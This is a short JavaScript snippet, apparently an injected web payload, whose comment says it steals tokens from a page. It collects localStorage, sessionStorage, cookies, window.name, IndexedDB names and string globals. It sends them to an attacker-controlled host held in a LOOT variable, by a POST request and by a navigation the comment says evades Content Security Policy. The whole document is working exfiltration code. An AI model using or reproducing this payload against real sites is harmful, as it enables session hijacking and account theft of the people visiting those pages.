// Reads every place where pages keep tokens and sends the content to the attacker: by a request, and by a navigation to
// the attacker's page, which no Content Security Policy blocks.
(async () => {
  const stores = { local: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie, name: window.name };
  for (const { name } of (await indexedDB.databases?.()) ?? []) stores[`database ${name}`] = name;
  for (const name of Object.keys(window)) if (typeof window[name] === "string") stores[`global ${name}`] = window[name];
  const everything = JSON.stringify(stores);
  await fetch(LOOT, { method: "POST", mode: "no-cors", body: everything }).catch(() => {});
  location = `${LOOT}?d=${encodeURIComponent(everything.slice(0, 6000))}`;
})();
